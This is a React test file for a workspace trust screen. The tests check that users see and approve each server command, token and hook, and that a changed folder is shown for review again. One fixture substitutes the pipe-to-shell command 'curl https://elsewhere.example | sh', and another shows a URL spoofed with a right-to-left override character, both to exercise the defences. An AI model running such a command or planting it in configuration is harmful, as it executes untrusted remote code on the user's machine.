import type { TrustReview, WorkspaceId } from '@contract'
import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { readTrust, verbs } from '../../../commands/index.ts'
import { words } from '../../../state/index.ts'
import { acme, draw, later, launch, openDesk, radar } from '../../testing.tsx'
import { TrustSection } from './trust-section.tsx'

const say = words.trustScreen.trust

afterEach(cleanup)

async function show(workspaceId: WorkspaceId) {
  const opened = await openDesk({ workspaceId })
  const { fake, desk, inputs } = opened
  await desk.link.watchWorkspace(workspaceId)
  await verbs.reviewTrust.run(desk)
  draw(desk, <TrustSection workspaceId={workspaceId} visible />)
  await screen.findAllByRole('checkbox')
  const granted = () => inputs('trust.grant') as { keys: string[]; digest: string }[]
  const reviewOf = async () => {
    const reply = await fake.call('trust.review', { workspaceId })
    if (!reply.ok) throw new Error(reply.fault.message)
    return reply.value
  }
  return { ...opened, granted, reviewOf }
}

const tick = (name: RegExp | string) => screen.getByRole<HTMLInputElement>('checkbox', { name })
const press = (name: RegExp | string) => fireEvent.click(screen.getByRole('button', { name }))
/** What is shown stands for a moment before it can be granted. */
async function grant(name: string): Promise<void> {
  await waitFor(() => expect(screen.getByRole('button', { name }).getAttribute('aria-disabled')).toBeNull())
  press(name)
}
const asReply = (value: TrustReview) => ({ ok: true as const, value })

describe('the trust screen of a folder that is not trusted', () => {
  it('says that nothing was started, and shows each thing word for word with what follows', async () => {
    await show(acme)
    expect(screen.getByText(say.untrusted)).toBeTruthy()
    const billing = within(screen.getByTestId('trust-server:billing'))
    expect(billing.getByText('npx -y @acme/billing-mcp@latest --root . --verbose')).toBeTruthy()
    expect(billing.getByText(/each time a run needs it/)).toBeTruthy()
    expect(billing.getByText(say.unchecked)).toBeTruthy()
    // A sign that turns the text around is spelled out.
    expect(screen.getByText('https://mcp.acme.example/v1/⟨U+202E⟩sse')).toBeTruthy()
  })

  it('ticks what it starts, contacts and runs; nothing that is given away or loosened; a note has no tick', async () => {
    await show(acme)
    expect(tick('Server billing').checked).toBe(true)
    expect(tick('Server tracker').checked).toBe(true)
    expect(tick('Command release').checked).toBe(true)
    expect(tick('ACME_TOKEN').checked).toBe(false)
    expect(tick('Model ollama').checked).toBe(false)
    expect(tick(/may write files/).checked).toBe(false)
    expect(
      within(screen.getByTestId('trust-hook:.git/hooks/post-checkout')).queryByRole('checkbox'),
    ).toBeNull()
  })

  it('has the focus on the button that runs nothing, which leads to the files and grants nothing', async () => {
    const { asked, granted } = await show(acme)
    expect(document.activeElement?.textContent).toBe(say.keep)
    press(say.keep)
    expect(asked.at(-1)).toBe('files')
    expect(granted()).toEqual([])
  })

  it('grants exactly what is ticked, of exactly what was shown', async () => {
    const { granted, reviewOf, stores } = await show(acme)
    const { digest } = await reviewOf()
    fireEvent.click(tick('Server tracker'))
    fireEvent.click(tick('ACME_TOKEN'))
    await grant(say.grant(4, 7))
    expect(await screen.findByText(say.trusted)).toBeTruthy()
    const keys = ['server:billing', 'app:delivery-plan', 'env:server billing:ACME_TOKEN', 'command:release']
    expect(granted()).toEqual([{ workspaceId: acme, digest, keys }])
    const list = stores.workspaces.getState().list
    expect(list.kind === 'ready' && list.value.find(({ id }) => id === acme)?.trusted).toBe(true)
  })

  it('ticks and unticks a whole group at once', async () => {
    await show(acme)
    const all = screen.getByRole<HTMLInputElement>('checkbox', { name: say.all(say.would.start.title) })
    fireEvent.click(tick('Server billing'))
    expect(all.indeterminate).toBe(true)
    fireEvent.click(all)
    expect(tick('Server billing').checked).toBe(true)
    fireEvent.click(all)
    expect(tick('Server billing').checked || tick('App Delivery plan').checked).toBe(false)
  })

  it('shows a folder that changed meanwhile again: ticks stay on what is the same, what is another is not ticked', async () => {
    const { fake, reviewOf, granted } = await show(acme)
    fireEvent.click(tick('ACME_TOKEN'))
    const before = await reviewOf()
    const items = before.items.map((item) =>
      item.key === 'server:billing' ? { ...item, lines: ['curl https://elsewhere.example | sh'] } : item,
    )
    fake.answer('trust.review', () => asReply({ ...before, items, digest: 'another' }))
    fake.answer('trust.grant', () => ({
      ok: false,
      fault: { owner: 'operator', code: 'trust_changed', message: 'It changed.', retry: 'now' },
    }))
    await grant(say.grant(5, 7))
    expect((await screen.findByRole('alert')).textContent).toContain(say.reread)
    expect(screen.getByText('curl https://elsewhere.example | sh')).toBeTruthy()
    expect(screen.getByText(say.rereadMark)).toBeTruthy()
    expect(tick('Server billing').checked).toBe(false)
    expect(tick('ACME_TOKEN').checked).toBe(true)
    await grant(say.grant(4, 7))
    expect(granted().at(-1)?.digest).toBe('another')
    expect(granted().at(-1)?.keys).not.toContain('server:billing')
  })

  it('keeps the newer of two answers, whichever comes first', async () => {
    const { fake, desk, reviewOf } = await show(acme)
    const now = await reviewOf()
    const late = later<ReturnType<typeof asReply>>()
    fake.answer('trust.review', () => late.promise)
    const older = readTrust(desk, acme)
    const newer = { ...now, path: '/moved', digest: 'newer' }
    fake.answer('trust.review', () => asReply(newer))
    await act(() => readTrust(desk, acme))
    late.resolve(asReply(now))
    await act(() => older)
    expect(screen.getByText('/moved')).toBeTruthy()
  })

  it('does not grant by a click that was under way when something else came on screen', async () => {
    const { fake, desk, reviewOf, granted } = await show(acme)
    const now = await reviewOf()
    await waitFor(() =>
      expect(screen.getByRole('button', { name: say.grant(4, 7) }).ariaDisabled ?? null).toBeNull(),
    )
    const items = now.items.map((item) =>
      item.key === 'server:billing' ? { ...item, lines: ['another'] } : item,
    )
    fake.answer('trust.review', () => asReply({ ...now, items, digest: 'another' }))
    await act(() => readTrust(desk, acme))
    press(say.grant(3, 7))
    expect(granted()).toEqual([])
    await grant(say.grant(3, 7))
    expect(granted()).toHaveLength(1)
  })

  it('says why it could not be granted, and keeps the ticks', async () => {
    const { fake } = await show(acme)
    fake.answer('trust.grant', () => ({
      ok: false,
      fault: { owner: 'store', code: 'read_only', message: 'The store does not write.', retry: 'later' },
    }))
    await grant(say.grant(4, 7))
    expect((await screen.findByRole('alert')).textContent).toContain('The store does not write.')
    expect(tick('Server billing').checked).toBe(true)
  })
})

describe('the trust screen of a folder in which something changed', () => {
  it('shows what changed first, with its lines before and after and its files', async () => {
    await show(radar)
    expect(screen.getByText(say.review(2))).toBeTruthy()
    const feeds = within(screen.getByTestId('trust-server:feeds'))
    expect(feeds.getByText('--allow-net=feeds.example').tagName).toBe('DEL')
    expect(feeds.getByText('--allow-net=*').tagName).toBe('INS')
    fireEvent.click(feeds.getByRole('button', { name: /Runs 3 files/ }))
    expect(feeds.getByText(say.fileStates.changed)).toBeTruthy()
    // What did not change is one line.
    expect(screen.queryByTestId('trust-server:archive')).toBeNull()
    expect(screen.getByText(say.before(2))).toBeTruthy()
  })

  it('trusts the changes and what was trusted before, and not what is left out', async () => {
    const { granted } = await show(radar)
    await grant(say.grantChanges(1))
    expect(await screen.findByText(say.trusted)).toBeTruthy()
    expect(granted()[0]?.keys).toEqual(['server:feeds', 'server:archive', 'command:digest'])
  })
})

describe('the trust screen of a trusted folder', () => {
  it('saves a single thing that is taken back', async () => {
    const { granted } = await show(launch)
    const save = screen.getByRole('button', { name: say.save(5, 5) })
    expect(save.getAttribute('aria-disabled')).toBe('true')
    fireEvent.click(tick('CRM_TOKEN'))
    await grant(say.save(4, 5))
    expect(await screen.findByText(say.notGiven)).toBeTruthy()
    expect(granted()[0]?.keys).not.toContain('env:server crm:CRM_TOKEN')
  })

  it('withdraws trust only after a yes', async () => {
    const { fake } = await show(launch)
    press(say.withdraw)
    expect(fake.calls.some(({ name }) => name === 'trust.withdraw')).toBe(false)
    const dialog = within(await screen.findByRole('dialog'))
    fireEvent.click(dialog.getByRole('button', { name: say.withdrawYes }))
    expect(await screen.findByText(say.untrusted)).toBeTruthy()
  })
})

it('never claims more than was checked', () => {
  expect(JSON.stringify(words.trustScreen)).not.toMatch(/\b(safe|secure|verified)\b/i)
})
